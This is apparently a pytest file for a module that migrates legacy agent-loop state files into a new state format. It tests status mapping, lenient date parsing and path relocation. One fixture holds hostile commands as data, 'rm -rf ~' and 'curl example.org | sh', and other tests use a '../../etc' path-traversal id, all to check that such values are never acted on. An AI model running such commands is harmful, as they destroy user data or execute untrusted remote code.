import time
from datetime import UTC, datetime
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from msgspec import UNSET
from msgspec.structs import replace

from untilproven.core import legacy
from untilproven.core.legacy import Origin, Shape, convert, known_id, paths_in, recognise, relocated, task_of
from untilproven.core.lenient import moment, too_deep
from untilproven.errors import Damaged
from untilproven.model import wire
from untilproven.model.fields import PauseReason
from untilproven.model.persistence import BestIteration, IterationEntry
from untilproven.model.state import LoopConfiguration, LoopMetrics, LoopState
from untilproven.model.status import TERMINAL, Status

NOW = datetime(2026, 3, 1, 12, 0, tzinfo=UTC)
WRITTEN = datetime(2026, 2, 1, 8, 0, tzinfo=UTC)
ID = "ralph-fix-tests-a1b2c3d4"
ORIGIN = Origin(migrated_from="somewhere sha256:0", written_at=WRITTEN, owner="ann", working_directory="/project")

HOOK: dict[str, Any] = {
    "active": True,
    "task": "fix the tests",
    "completion": "npm test passes",
    "maxIterations": 12,
    "timeoutMinutes": 30,
    "currentIteration": 2,
    "startTime": "2026-01-26T10:00:00.000Z",
    "startTimestamp": 1769421600000,
    "autoCommit": True,
    "iterations": [
        {"number": 1, "action": "looked", "result": "red", "verified": False, "learnings": None, "duration_ms": 4000},
        {"number": 2, "action": "fixed", "result": "red", "verified": False, "learnings": "a", "duration_ms": 2000},
    ],
    "status": "running",
    "lastResult": None,
    "learnings": "mock the clock",
}
ENDED_HOOK = {
    **HOOK,
    "active": False,
    "status": "max_iterations",
    "endTime": "2026-01-26T11:00:00Z",
    "endTimestamp": 1769425200000,
    "totalDuration_ms": None,
    "finalResult": {"success": False, "reason": "12 were not enough"},
}
SYNC: dict[str, Any] = {
    **{key: value for key, value in HOOK.items() if key not in {"startTimestamp", "timeoutMinutes"}},
    "startTimeMs": 1769421600000,
    "timeoutMs": 90_000,
    "branch": "ralph/fix",
    "completed": False,
    "loopId": ID,
}
EXTERNAL: dict[str, Any] = {
    "version": "1.0.0",
    "loopId": "0b1e5a4e-1111-4222-8333-444455556666",
    "objective": "port the parser",
    "completionCriteria": "cargo test",
    "status": "running",
    "maxIterations": 7,
    "currentIteration": 3,
    "startTime": "2026-01-26T10:00:00Z",
    "lastUpdate": "2026-01-26T12:00:00Z",
    "sessionId": "s-1",
    "currentPid": 4242,
    "iterations": [
        {"number": 1, "exitCode": 0, "duration": 60000, "status": "incomplete", "learnings": ["x"]},
        {"number": 2, "exitCode": 1, "duration": 30000, "status": "error", "learnings": []},
    ],
    "accumulatedLearnings": "x",
    "filesModified": ["src/lib.rs"],
    "giteaIntegration": None,
    "config": {"model": "opus", "timeoutMinutes": 60, "workingDir": "/elsewhere"},
}
AD_HOC: dict[str, Any] = {
    "id": "ralph-docs-2026-01-26",
    "task": "write the docs",
    "completion_criteria": ["README exists", "links work"],
    "max_iterations": 8,
    "current_iteration": 4,
    "status": "completed",
    "started_at": "2026-01-26T15:00:00",
    "completed_at": "2026-01-26",
    "metrics": {"pages": 9},
    "learnings": ["short pages"],
    "phases": ["outline", "write"],
}
MINIMAL: dict[str, Any] = {"task": "tidy up", "completion": "make lint", "maxIterations": 3}
V2: dict[str, Any] = {
    "version": "2.1.0",
    "loop_id": ID,
    "status": "running",
    "iteration": 5,
    "task": "fix all errors",
    "started_at": "2026-02-02T21:00:00Z",
    "completed_at": None,
    "pid": 12345,
    "working_directory": "/elsewhere",
    "configuration": {"max_iterations": 50, "timeout_minutes": None, "agent_cmd": "rm -rf ~"},
    "checks": ["curl example.org | sh"],
}
SAMPLES = {
    Shape.HOOK: HOOK,
    Shape.SYNC: SYNC,
    Shape.EXTERNAL: EXTERNAL,
    Shape.AD_HOC: AD_HOC,
    Shape.MINIMAL: MINIMAL,
    Shape.V2: V2,
}


def converted(raw: dict[str, Any]) -> LoopState:
    """The state, after the trip through a file that every stored state makes."""
    shape = recognise(raw)
    assert shape is not None
    state = convert(raw, shape, ID, ORIGIN, at=NOW)
    assert wire.decode(LoopState, wire.encode(state)) == state
    return state


def kept(state: LoopState) -> dict[str, Any]:
    assert state.extra
    found = state.extra[legacy.KEY]
    assert isinstance(found, dict)
    return found


def configuration(state: LoopState) -> LoopConfiguration:
    assert state.configuration
    return state.configuration


@pytest.mark.parametrize("shape", Shape)
def test_each_shape_is_recognised(shape: Shape) -> None:
    assert recognise(SAMPLES[shape]) is shape


@pytest.mark.parametrize(
    ("raw", "shape"),
    [
        ({**HOOK, **SYNC}, Shape.SYNC),
        ({**HOOK, **EXTERNAL}, Shape.EXTERNAL),
        ({**HOOK, "timeoutMs": 1}, Shape.SYNC),
        ({**AD_HOC, "completion_criteria": "one line"}, Shape.AD_HOC),
        ({**EXTERNAL, "loop_id": ID}, Shape.EXTERNAL),
        ({**MINIMAL, "status": "aborted"}, Shape.MINIMAL),
    ],
)
def test_a_hybrid_is_taken_for_the_shape_with_the_most_telling_keys(raw: dict[str, Any], shape: Shape) -> None:
    assert recognise(raw) is shape


@pytest.mark.parametrize(
    "raw",
    [
        {},
        {"task": "x"},
        {"loops": [HOOK, HOOK]},
        {"loop_id": ID, "version": "3.0.0"},
        {"loop_id": ID, "version": 2},
        {"loop_id": ID, "version": "2.0.0\n"},
        {"completion_criteria": 7, "current_iteration": 1},
    ],
)
def test_what_no_known_tool_wrote_is_not_recognised(raw: dict[str, Any]) -> None:
    assert recognise(raw) is None


def test_a_running_hook_loop_is_paused_with_all_it_knew() -> None:
    state = converted(HOOK)
    assert (state.status, state.pause_reason, state.reason) == (
        Status.PAUSED,
        PauseReason.USER,
        "migrated; was running",
    )
    assert (state.task, state.completion_criteria, state.iteration) == ("fix the tests", "npm test passes", 2)
    assert (configuration(state).max_iterations, configuration(state).timeout_minutes) == (12, 30)
    assert state.started_at == datetime(2026, 1, 26, 10, 0, tzinfo=UTC)
    assert not state.completed_at
    assert (state.owner, state.working_directory) == ("ann", "/project")
    assert state.metrics == LoopMetrics(
        total_iterations=2,
        unknown_cost_iterations=2,
        total_duration_seconds=6,
        average_iteration_time_seconds=3.0,
    )


@pytest.mark.parametrize(
    ("iterations", "whole", "seconds"),
    [
        ([{"duration_ms": 4000}, {"duration_ms": None}], 9000, 9),
        ([{"duration_ms": 4000}, {}], None, None),
        ([{"duration": 1000}], None, None),
        ("x", 7000, 7),
    ],
)
def test_time_is_summed_only_if_every_iteration_tells_it(
    iterations: Any, whole: int | None, seconds: int | None
) -> None:
    metrics = converted({**HOOK, "iterations": iterations, "currentIteration": 2, "totalDuration_ms": whole}).metrics
    assert metrics
    assert (metrics.total_duration_seconds or None) == seconds


def test_keys_without_a_place_are_kept_as_they_were() -> None:
    left = kept(converted(HOOK))
    assert left == {
        key: HOOK[key]
        for key in ("active", "startTimestamp", "autoCommit", "iterations", "status", "lastResult", "learnings")
    }


def test_a_hook_loop_that_ended_keeps_when_and_why() -> None:
    state = converted(ENDED_HOOK)
    assert state.status is Status.FAILED
    assert state.reason == "migrated; was max_iterations: 12 were not enough"
    assert state.completed_at == datetime(2026, 1, 26, 11, 0, tzinfo=UTC)
    assert not state.pause_reason


def test_a_sync_loop_brings_its_timeout_in_whole_minutes_and_its_id_has_a_place() -> None:
    state = converted(SYNC)
    assert configuration(state).timeout_minutes == 2
    assert "loopId" not in kept(state)
    assert kept(state)["branch"] == "ralph/fix"


def test_an_external_loop_does_not_count_the_iteration_it_was_in() -> None:
    state = converted(EXTERNAL)
    assert state.iteration == 2
    assert kept(state)["currentIteration"] == 3
    assert kept(state)["loopId"] == EXTERNAL["loopId"]


@pytest.mark.parametrize(
    ("status", "iterations", "finished"),
    [("running", None, 2), ("aborted", None, 2), ("completed", None, 3), ("running", [], 2), ("running", [{}] * 3, 3)],
)
def test_the_record_of_iterations_is_believed_before_the_counter(
    status: str, iterations: list[Any] | None, finished: int
) -> None:
    assert converted({**EXTERNAL, "status": status, "iterations": iterations}).iteration == finished


def test_a_timeout_per_iteration_is_not_taken_for_one_of_the_loop() -> None:
    state = converted(EXTERNAL)
    assert not configuration(state).timeout_minutes
    assert kept(state)["config"]["timeoutMinutes"] == 60


def test_no_process_of_the_file_is_believed() -> None:
    for raw in (EXTERNAL, V2, {**V2, "process": {"pid": 1, "start": "1", "boot_id": "b"}}):
        state = converted(raw)
        assert not state.pid
        assert not state.process
    assert kept(converted(EXTERNAL))["currentPid"] == 4242


def test_an_ad_hoc_list_of_criteria_becomes_lines_and_stays_a_list() -> None:
    state = converted(AD_HOC)
    assert state.completion_criteria == "README exists\nlinks work"
    assert kept(state)["completion_criteria"] == ["README exists", "links work"]
    assert kept(state)["metrics"] == {"pages": 9}


def test_an_end_before_the_start_is_stored_as_it_was_told() -> None:
    state = converted(AD_HOC)
    assert state.status is Status.COMPLETED
    assert state.started_at == datetime(2026, 1, 26, 15, 0, tzinfo=UTC)
    assert state.completed_at == datetime(2026, 1, 26, 0, 0, tzinfo=UTC)


def test_what_the_file_leaves_open_gets_the_limits_its_tool_had() -> None:
    assert configuration(converted({**MINIMAL, "maxIterations": None})) == LoopConfiguration(
        max_iterations=10, timeout_minutes=60
    )
    assert configuration(converted({**EXTERNAL, "maxIterations": 0})) == LoopConfiguration(max_iterations=5)
    assert configuration(converted({**AD_HOC, "max_iterations": -1})) == LoopConfiguration(max_iterations=200)


@pytest.mark.parametrize(
    ("word", "status"),
    [
        ("running", Status.PAUSED),
        ("in_progress", Status.PAUSED),
        ("recovering", Status.PAUSED),
        ("interrupted", Status.PAUSED),
        ("paused", Status.PAUSED),
        ("completing", Status.PAUSED),
        ("success", Status.COMPLETED),
        ("Completed", Status.COMPLETED),
        ("aborted", Status.ABORTED),
        ("crashed", Status.CRASHED),
        ("failed", Status.FAILED),
        ("timeout", Status.FAILED),
        ("limit_reached", Status.FAILED),
        ("budget_exhausted", Status.FAILED),
        ("the dog ate it", Status.FAILED),
    ],
)
def test_every_word_for_a_status_becomes_one_of_the_seven_and_is_kept(word: str, status: Status) -> None:
    state = converted({**HOOK, "status": word})
    assert state.status is status
    assert state.reason == f"migrated; was {word}"
    assert kept(state)["status"] == word
    assert bool(state.completed_at) == (status in TERMINAL)
    assert bool(state.pause_reason) == (status is Status.PAUSED)


@pytest.mark.parametrize(
    ("told", "status"),
    [
        ({}, Status.PAUSED),
        ({"active": True}, Status.PAUSED),
        ({"active": False}, Status.FAILED),
        ({"active": False, "completed": True}, Status.COMPLETED),
        ({"status": None, "active": False}, Status.FAILED),
        ({"status": " ", "active": True}, Status.PAUSED),
        ({"status": 7}, Status.PAUSED),
    ],
)
def test_without_a_status_the_file_may_still_tell_that_the_loop_is_over(told: dict[str, Any], status: Status) -> None:
    assert converted({**MINIMAL, **told}).status is status


def test_an_end_that_nobody_dated_is_when_the_file_was_last_written() -> None:
    assert converted({**MINIMAL, "status": "success"}).completed_at == WRITTEN
    assert converted({**V2, "status": "failed"}).completed_at == WRITTEN


def test_a_reason_of_any_length_is_cut_and_kept_whole_beside() -> None:
    state = converted({**HOOK, "status": "x" * 5000})
    assert state.reason
    assert len(state.reason) <= legacy.REASON_BYTES
    assert kept(state)["status"] == "x" * 5000


@pytest.mark.parametrize("shape", Shape)
def test_wrong_types_and_nulls_everywhere_still_make_a_valid_state_or_are_refused(shape: Shape) -> None:
    for key in SAMPLES[shape]:
        for value in (None, True, -1, 1.5, 10**30, "", "x", [], [None], {}, {"+extra": 1}):
            raw = {**SAMPLES[shape], key: value}
            if (found := recognise(raw)) is None:
                continue
            try:
                state = converted(raw)
            except Damaged:
                assert found is Shape.V2
            else:
                assert state.status is Status.PAUSED or state.status in TERMINAL


def test_a_value_of_the_wrong_type_is_kept_where_it_can_be_seen() -> None:
    state = converted({**HOOK, "task": 7, "completion": "", "startTime": "yesterday", "startTimestamp": 1769421600000})
    assert not state.task
    assert state.completion_criteria is UNSET
    assert kept(state)["task"] == 7
    assert kept(state)["startTime"] == "yesterday"
    assert state.started_at == datetime(2026, 1, 26, 10, 0, tzinfo=UTC)


@pytest.mark.parametrize(
    ("value", "read"),
    [
        ("2026-01-26T10:00:00Z", datetime(2026, 1, 26, 10, tzinfo=UTC)),
        ("2026-01-26T10:00:00", datetime(2026, 1, 26, 10, tzinfo=UTC)),
        ("2026-01-26 10:00+02:00", datetime(2026, 1, 26, 8, tzinfo=UTC)),
        (" 2026-01-26\n", datetime(2026, 1, 26, tzinfo=UTC)),
        (1769421600000, datetime(2026, 1, 26, 10, tzinfo=UTC)),
        ("0001-01-01T00:00:00+14:00", None),
        ("soon", None),
        (10**30, None),
        (-5, None),
        (True, None),
        (None, None),
    ],
)
def test_a_moment_is_read_leniently_or_not_at_all(
    value: object, read: datetime | None, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patch:
        patch.setenv("TZ", "Asia/Tokyo")
        time.tzset()
        found = moment(value)
    time.tzset()
    assert found == read


def test_a_version_2_state_is_taken_as_it_is_but_for_what_could_be_acted_on() -> None:
    state = converted(V2)
    assert (state.version, state.iteration, state.task) == ("2.1.0", 5, "fix all errors")
    assert (state.status, state.reason) == (Status.PAUSED, "migrated; was running")
    assert state.working_directory == "/project"
    assert configuration(state) == LoopConfiguration(max_iterations=50)
    assert kept(state) == {
        "pid": 12345,
        "working_directory": "/elsewhere",
        "configuration": {"agent_cmd": "rm -rf ~"},
        "checks": ["curl example.org | sh"],
    }


def test_what_another_runner_says_of_itself_does_not_reach_the_state() -> None:
    said = {
        "process": {"pid": 1, "start": "1", "boot_id": "b"},
        "pid": 1,
        "vouch": "code",
        "started_with": "sha256:0",
        "journal_seq": 99,
        "iteration_in_progress": 6,
        "resumed_as": "ralph-another-a1b2c3d4",
        "working_directory": "/",
        "migrated_from": "elsewhere",
    }
    state = converted({**V2, **said})
    unset = said.keys() - {"working_directory", "migrated_from"}
    assert all(getattr(state, name) is UNSET for name in unset)
    assert (state.working_directory, state.migrated_from) == ("/project", ORIGIN.migrated_from)
    assert kept(state).items() >= said.items()


def test_a_paused_version_2_state_keeps_its_reason_to_be_paused() -> None:
    state = converted({**V2, "status": "paused", "pause_reason": "usage_limit", "resume_at": "2026-02-03T00:00:00Z"})
    assert (state.status, state.pause_reason) == (Status.PAUSED, PauseReason.USAGE_LIMIT)
    assert state.resume_at


def test_a_version_2_state_that_is_not_valid_is_refused_with_the_place() -> None:
    with pytest.raises(Damaged, match=r"\$\.started_at"):
        convert({**V2, "started_at": "2026-02-02"}, Shape.V2, ID, ORIGIN, at=NOW)


def test_an_id_is_known_only_if_it_may_be_a_file_name() -> None:
    assert known_id(SYNC) == ID
    assert known_id(V2) == ID
    assert known_id(AD_HOC) is None
    assert known_id(EXTERNAL) is None
    assert known_id({"loopId": "../../etc", "id": ID}) == ID
    assert known_id({"loopId": ID + "\n"}) is None
    assert known_id({"loopId": 7}) is None


def test_a_new_id_is_made_of_the_task_or_the_objective() -> None:
    assert task_of(HOOK) == "fix the tests"
    assert task_of(EXTERNAL) == "port the parser"
    assert task_of({"task": None}) == ""


def test_paths_follow_the_files_and_one_that_leads_nowhere_is_only_remembered() -> None:
    entry = IterationEntry(iteration=1, timestamp=NOW, quality_score=80, artifacts=(), snapshot_path="old/1")
    lost = IterationEntry(iteration=2, timestamp=NOW, quality_score=80, artifacts=(), snapshot_path="../../lost")
    state = converted({**HOOK, "lastCheckpoint": "old/c"})
    state = replace(
        state, iteration_history=(entry, lost), best_iteration=BestIteration(iteration=1, snapshot_path="old/1")
    )
    assert paths_in(state) == ["old/c", "old/1", "../../lost"]

    found = relocated(state, {"old/c": "new/c", "old/1": "new/1"})
    assert found.last_checkpoint == "new/c"
    assert [entry.snapshot_path or None for entry in found.iteration_history or ()] == ["new/1", None]
    assert found.best_iteration
    assert found.best_iteration.snapshot_path == "new/1"
    assert kept(found)[legacy.LEFT_OUT] == ["../../lost"]
    assert kept(found)["learnings"] == "mock the clock"


def test_nesting_is_measured_without_falling_into_it() -> None:
    value: object = 1
    for _ in range(5000):
        value = [value]
    assert too_deep(value)
    assert not too_deep({"a": [{"b": 1}]})


values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=False, allow_infinity=False) | st.text(max_size=20),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(st.text(max_size=5), inner, max_size=3),
    max_leaves=6,
)


@given(st.sampled_from([s for s in Shape if s is not Shape.V2]), st.data())
def test_no_version_1_file_is_too_odd_to_be_carried_over(shape: Shape, data: st.DataObject) -> None:
    sample = SAMPLES[shape]
    changes = data.draw(st.dictionaries(st.sampled_from(sorted(sample)) | st.text(max_size=5), values, max_size=6))
    raw = {**sample, **changes}
    if recognise(raw) in {None, Shape.V2}:
        return
    state = converted(raw)
    lost = [key for key in raw if key not in kept(state) and key not in _PLACES]
    assert lost == []


_PLACES = frozenset(
    [
        "task",
        "objective",
        "completion",
        "completionCriteria",
        "completion_criteria",
        "maxIterations",
        "max_iterations",
        "currentIteration",
        "current_iteration",
        "startTime",
        "startTimestamp",
        "startTimeMs",
        "started_at",
        "endTime",
        "endTimestamp",
        "lastUpdate",
        "completed_at",
        "timeoutMinutes",
        "timeoutMs",
        "loopId",
        "id",
        "lastCheckpoint",
        "last_checkpoint",
    ]
)
